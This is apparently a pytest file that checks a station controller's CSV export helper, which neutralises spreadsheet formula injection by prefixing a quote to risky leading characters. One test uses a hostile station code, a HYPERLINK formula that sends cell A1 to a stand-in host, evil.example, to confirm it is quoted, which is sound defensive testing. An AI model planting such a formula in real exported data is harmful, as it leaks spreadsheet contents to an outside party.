"""CSV downloads cannot carry spreadsheet formulas: one helper, used by the enrollment-tokens CSV and
the portal's login-records CSV (OWASP CSV injection: = + - @ TAB CR get a leading single quote)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from station_controller.csv_export import neutralise, to_csv
from station_controller.kernel.tokens import new_token
from tests.controller.api.core_fixtures import Api

HEADER = "station_code,station_name,region_path,role,serial,mac,tags\n"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_quoted(start: str) -> None:
    assert neutralise(start + "HYPERLINK(1)") == "'" + start + "HYPERLINK(1)"


def test_plain_values_numbers_and_times_stay_as_they_are() -> None:
    assert neutralise("13800138000") == "13800138000"
    assert neutralise("a=b") == "a=b"
    assert neutralise(-5) == -5
    assert neutralise(None) == ""
    assert neutralise(datetime(2024, 1, 2, 3, 4, 5)) == "2024-01-02T03:04:05+00:00"  # naive = UTC
    assert to_csv(["=h"], [["@x", 1]]) == "'=h\r\n'@x,1\r\n"


def test_enrollment_tokens_never_start_with_a_formula_character() -> None:
    assert not any(new_token().startswith("-") for _ in range(2000))  # 1 in 64 would without the rule


def test_enrollment_tokens_csv_neutralises_a_hostile_station_code(api: Api) -> None:
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    row = f'"{hostile.replace(chr(34), chr(34) * 2)}",站,河南省/南阳市/唐河县,stb,SN-X1,,\n'
    files = {"file": ("s.csv", (HEADER + row).encode(), "text/csv")}
    reply = api.client.post("/api/v1/stations/import?format=csv", files=files, headers=api.user("operator"))
    assert reply.status_code == 201, reply.text
    [line] = list(csv.DictReader(io.StringIO(reply.text)))
    assert line["station_code"] == "'" + hostile
    assert line["serial"] == "SN-X1"
    assert datetime.fromisoformat(line["token_expires_at"]).tzinfo == UTC
